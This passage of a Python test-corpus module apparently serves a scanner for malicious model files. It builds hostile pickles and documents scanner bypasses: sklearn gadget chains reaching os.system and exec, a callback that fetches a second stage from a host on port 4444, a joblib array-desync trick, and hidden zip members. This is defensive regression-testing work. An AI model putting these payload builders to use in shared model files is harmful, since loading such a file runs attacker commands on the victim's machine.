        samples.append(Sample(f"obfuscation/{name}", data, "pkl", "obfuscation", _OBFUSCATION_EXPECT.get(name, Q)))
    return samples


# Obfuscations whose import fails at load time (a name that does not exist), or that name a
# module that is not the standard library: any "not ready" verdict is right for them.
_OBFUSCATION_EXPECT = {
    "trailing-space-module": N,
    "fullwidth-module": N, "zero-width-module": N, "uppercase-names": N, "nbsp-in-name": N,
    "trailing-space-name": N, "dotted-sklearn-pipeline-os-system": N, "dotted-numpy-ndarray-tofile": N,
    "dotted-builtins-getattr-via-module": N, "dotted-numpy-testing-runstring": N,
    "dotted-joblib-numpy-pickle-load": N, "dotted-torch-serialization-load": N,
    "dotted-sklearn-base-platform-os": N, "build-monkeypatches-class": N, "setitem-on-global": N,
}


def payloads() -> list[Sample]:
    """Every malicious pickle, declared as kind pkl."""
    return _runners() + _touchers() + _third_party() + _loaders() + _obfuscations()


def wrapped(samples: list[Sample]) -> list[Sample]:
    """Each payload again in each wrapper (PyTorch zip, joblib files, artifact, zip, hiding places)."""
    out = []
    for sample in samples:
        for suffix, build, kind in wrappers.WRAPPERS:
            data = build(sample.data)
            if data is None:
                continue
            out.append(Sample(f"{sample.name}@{suffix}", data, kind, sample.category, sample.expect, sample.note))
    return out


# --- bypasses: malicious files the registry once reported READY ---------------------------------

def _sklearn_rce_chain(command: str = SHELL) -> bytes:
    """os.system(command) using only globals on the allow-list (sklearn.*):

    check_library_installed("os")               -> the os module (importlib.import_module)
    _check_response_method(os, "system")        -> os.system (getattr)
    partial(os.system, command)                 -> functools.partial, re-exported by sklearn.utils.extmath
    get_columns(partial)                        -> calls it: get_columns calls any callable argument
    """
    os_module = call(_g("sklearn.utils._set_output:check_library_installed"), text("os"))
    system = call(_g("sklearn.utils.validation:_check_response_method"), os_module, text("system"))
    bound = call(_g("sklearn.utils.extmath:partial"), system, text(command))
    return call(_g("sklearn.utils._set_output:get_columns"), bound)


def _sklearn_model_with(value: bytes) -> bytes:
    """A dict that looks like a model's parameters, with `value` as one of them."""
    return dict_((text("coef_"), list_(integer(1), integer(2))), (text("predict_fn"), value))


def _get_columns_identity(value: bytes) -> bytes:
    return call(_g("sklearn.utils._set_output:get_columns"), value)


def _numpy1_scalar_identity(value: bytes) -> bytes:
    return call(_g("numpy.core.multiarray:scalar"), call(_g("numpy:dtype"), text("O8"), NEWFALSE, NEWTRUE), value)


def _joblib_identity_desync(payload_body: bytes, identity=_get_columns_identity) -> bytes:
    """A raw joblib file where joblib.load reads `payload_body` as opcodes but the scanner reads it as
    the contents of a bytes constant.

    The NumpyArrayWrapper is made with NEWOBJ (no BUILD, so neither joblib nor the scanner reads an
    array there), then passed through sklearn.utils._set_output.get_columns, which returns any
    non-callable argument unchanged. BUILD on the result: joblib's NumpyUnpickler sees a
    NumpyArrayWrapper on the stack and reads `n` raw array bytes after BUILD; the scanner sees
    "the result of calling get_columns" and walks those bytes as opcodes. The n bytes are a
    BINBYTES header whose length also covers the payload (so the scanner swallows the payload as
    data), and the payload then runs under joblib.load; the bytes after the payload's STOP close
    the scanner's reading.
    """
    payload = payload_body + STOP
    filler = b"\x00" * 11  # a blob that does not start like a pickle is not scanned as one
    array = b"B" + struct.pack("<I", len(filler) + len(payload)) + filler
    dtype = call(_g("numpy:dtype"), text("u1"), NEWFALSE, NEWTRUE)
    wrapper = _g("joblib.numpy_pickle:NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    same_wrapper = identity(wrapper)
    state = (EMPTY_DICT + MARK + text("subclass") + _g("numpy:ndarray") + text("shape") + integer(len(array))
             + TUPLE1 + text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + NEWFALSE + SETITEMS)
    return proto(2) + same_wrapper + state + BUILD + array + payload + POP + STOP


def _plain_pickle_view(array_opcodes: bytes) -> bytes:
    """A raw joblib file whose array bytes are opcodes that plain pickle.load runs (joblib.load reads
    them as uint8 data). No alignment padding, so the array starts right after BUILD."""
    data = array_opcodes
    dtype = call(_g("numpy:dtype"), text("u1"), NEWFALSE, NEWTRUE)
    state = (EMPTY_DICT + MARK + text("subclass") + _g("numpy:ndarray") + text("shape") + integer(len(data))
             + TUPLE1 + text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + NEWFALSE + SETITEMS)
    wrapper = _g("joblib.numpy_pickle:NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD
    return proto(2) + wrapper + data + STOP


def _zip_member_not_sniffed(archive_kind: str) -> bytes:
    """pytorch_model.bin (what transformers hands to torch.load) holding a protocol 0 pickle that
    ends with a newline after STOP: not sniffed as a pickle, and .bin has no kind, so it is skipped."""
    member = pickle_of(call(_g("os:system"), string0(SHELL)), 0) + b"\n"
    if archive_kind == "artifact":
        return wrappers.zip_of({
            "score.py": wrappers.SCORE_PY, "runtime.yaml": wrappers.RUNTIME_YAML,
            "model.pkl": pickle.dumps({"a": 1}, 2), "pytorch_model.bin": member}, zipfile.ZIP_DEFLATED)
    return wrappers.zip_of({"model/pytorch_model.bin": member, "model/config.json": b"{}"}, zipfile.ZIP_DEFLATED)


def _export_graphviz_overwrite() -> bytes:
    """sklearn.tree.export_graphviz(fitted_tree, path): opens path for writing and writes a graph."""
    from sklearn.tree import DecisionTreeClassifier, export_graphviz

    tree = DecisionTreeClassifier().fit([[0.0], [1.0]], [0, 1])
    return pickle.dumps(_Reduce(export_graphviz, tree, MARKER), protocol=4)


# name -> (bytes builder, kind, why it passes): the report and the tests use the same words.
BYPASSES = {
    "bypass/sklearn-gadget-chain-os-system": (
        lambda: pickle_of(_sklearn_rce_chain()), "pkl",
        "four allow-listed sklearn globals compose os.system(cmd): check_library_installed('os') imports "
        "any module, _check_response_method(obj, name) is getattr, sklearn.utils.extmath.partial is "
        "functools.partial, get_columns(f) calls f()"),
    "bypass/sklearn-gadget-chain-in-model-dict": (
        lambda: pickle_of(_sklearn_model_with(_sklearn_rce_chain()), 2), "pkl",
        "the same chain as one value of an innocent-looking parameter dict"),
    "bypass/sklearn-gadget-chain@pt-zip": (
        lambda: wrappers.torch_zip(pickle_of(_sklearn_rce_chain())), "pt", "the same chain in data.pkl"),
    "bypass/sklearn-gadget-chain@joblib-gzip": (
        lambda: wrappers.joblib_compressed(pickle_of(_sklearn_rce_chain()), "gzip"), "joblib",
        "the same chain, gzip-compressed"),
    "bypass/sklearn-gadget-chain@artifact-zip": (
        lambda: wrappers.artifact_zip(pickle_of(_sklearn_rce_chain())), "artifact",
        "the same chain as model.pkl of an artifact"),
    "bypass/sklearn-gadget-chain-exec-python": (
        lambda: pickle_of(call(_g("sklearn.utils._set_output:get_columns"), call(
            _g("sklearn.utils.extmath:partial"),
            call(_g("sklearn.utils.validation:_check_response_method"),
                 call(_g("sklearn.utils._set_output:check_library_installed"), text("builtins")), text("exec")),
            text(PYTHON)))), "pkl",
        "the chain with builtins.exec: arbitrary Python"),
    "bypass/sklearn-callback-send-network-stage2": (
        lambda: pickle_of(call(_g("sklearn.callback._transport:send"),
                               call(_g("sklearn.callback._transport:ListenerHandle"),
                                    tuple_(text(HOST), integer(4444)), NONE), NONE)), "pkl",
        "sklearn.callback._transport.send(ListenerHandle((host, port), None), None) opens a "
        "multiprocessing Client to any TCP address and unpickles the server's reply (Connection.recv): "
        "a second stage from the network"),
    "bypass/sklearn-check-memory-creates-directories": (
        lambda: pickle_of(call(_g("sklearn.utils.validation:check_memory"), text(MARKER))), "pkl",
        "sklearn.utils.validation.check_memory(path) builds joblib.Memory(location=path), which creates "
        "path/joblib on disk"),
    "bypass/sklearn-import-any-module": (
        lambda: pickle_of(call(_g("sklearn.utils._set_output:check_library_installed"), text("antigravity"))),
        "pkl",
        "check_library_installed(name) is importlib.import_module: any installed module's import-time code "
        "runs (antigravity launches a web browser)"),
    "bypass/sklearn-export-graphviz-writes-file": (
        _export_graphviz_overwrite, "pkl",
        "sklearn.tree.export_graphviz(fitted_tree, path) opens any path for writing and overwrites it"),
    "bypass/joblib-wrapper-identity-desync": (
        lambda: _joblib_identity_desync(call(_g("os:system"), text(SHELL))), "joblib",
        "NumpyArrayWrapper passed through get_columns (identity): joblib.load reads array bytes after BUILD "
        "that the scanner walks as opcodes; those bytes open a BINBYTES that swallows an os.system payload "
        "which joblib then runs"),
    "bypass/joblib-wrapper-identity-desync-numpy1-scalar": (
        lambda: _joblib_identity_desync(call(_g("os:system"), text(SHELL)), identity=_numpy1_scalar_identity),
        "joblib",
        "the same desync with numpy < 2's numpy.core.multiarray.scalar(dtype('O'), x), which returns x "
        "itself (numpy 1.26 is within the project's numpy>=1.26)"),
    "bypass/joblib-wrapper-identity-desync-as-pkl": (
        lambda: _joblib_identity_desync(call(_g("os:system"), text(SHELL))), "pkl",
        "the same file declared as pkl (people load .pkl files with joblib.load too)"),
    "bypass/joblib-wrapper-identity-desync@zlib": (
        lambda: wrappers.joblib_compressed(_joblib_identity_desync(call(_g("os:system"), text(SHELL))), "zlib"),
        "joblib", "the same, zlib-compressed (compressed files are read with joblib semantics only)"),
    "bypass/plain-load-view-ignores-third-party-import": (
        lambda: _plain_pickle_view(call(_g("sklearn.utils._testing:assert_run_python_script_without_output"),
                                        text(PYTHON)) + POP), "joblib",
        "in the what-if reading of joblib array bytes as plain pickle.load opcodes, only dangerous imports "
        "count: an unvetted third-party import (sklearn.utils._testing.assert_run_python_script_without_"
        "output runs Python in a subprocess) is dropped, so a file that is REVIEW in the main reading is "
        "READY"),
    "bypass/plain-load-view-stops-at-computed-stack-global": (
        lambda: _plain_pickle_view(call(_g("_codecs:encode"), text("bf"), text("rot13"))
                                   + call(_g("_codecs:encode"), text("flfgrz"), text("rot13"))
                                   + STACK_GLOBAL + tuple_(text(SHELL)) + REDUCE + POP), "joblib",
        "the what-if reading stops quietly at a STACK_GLOBAL whose operands are results of an allowed call; "
        "_codecs.encode('bf', 'rot13') is the str 'os', so plain pickle.load imports os.system there"),
    "bypass/plain-load-view-stops-at-callable-instance": (
        lambda: _plain_pickle_view(call(call(_g("sklearn.gaussian_process.kernels:RBF")),
                                        list_(list_(integer(0))))
                                   + POP + call(_g("os:system"), text(SHELL)) + POP), "joblib",
        "the what-if reading stops quietly when an instance of an allowed class is called, assuming the call "
        "fails; sklearn kernels (RBF()(X)) are callable, so plain pickle.load goes on to os.system"),
    "bypass/zip-member-pytorch-model-bin-not-sniffed": (
        lambda: _zip_member_not_sniffed("zip"), "other",
        "a zip member named pytorch_model.bin (loaded with torch.load) holding a protocol 0 pickle with a "
        "newline after STOP: the sniffer wants '.' as the last byte, .bin has no kind, the member is skipped"),
    "bypass/artifact-member-pytorch-model-bin-not-sniffed": (
        lambda: _zip_member_not_sniffed("artifact"), "artifact", "the same member inside an artifact"),
}


# The bypasses the scanner still lets through (the rest are fixed and stay as regression tests).
# (The pytorch_model.bin members are read as pickle.load would read them, whatever their name.)
OPEN_BYPASSES: set[str] = set()


def bypasses() -> list[Sample]:
    return [Sample(name, build(), kind, "bypass", NOT_READY, why) for name, (build, kind, why) in BYPASSES.items()]


def malicious_corpus(*, include_wrapped: bool = True) -> list[Sample]:
    base = payloads()
    return base + (wrapped(base) if include_wrapped else []) + bypasses()


def as_pairs(samples: list[Sample]) -> list[tuple[str, bytes]]:
    return [sample.pair() for sample in samples]


def by_name() -> dict[str, Sample]:
    return {sample.name: sample for sample in malicious_corpus()}


if __name__ == "__main__":  # a quick listing: python -m tests.corpus.malicious
    corpus = malicious_corpus()
    names = [sample.name for sample in corpus]
    assert len(names) == len(set(names)), "duplicate names"
    for sample in corpus:
        print(f"{sample.kind:9} {sample.expect:12} {len(sample.data):7}  {sample.name}")
    print(len(corpus), "files")
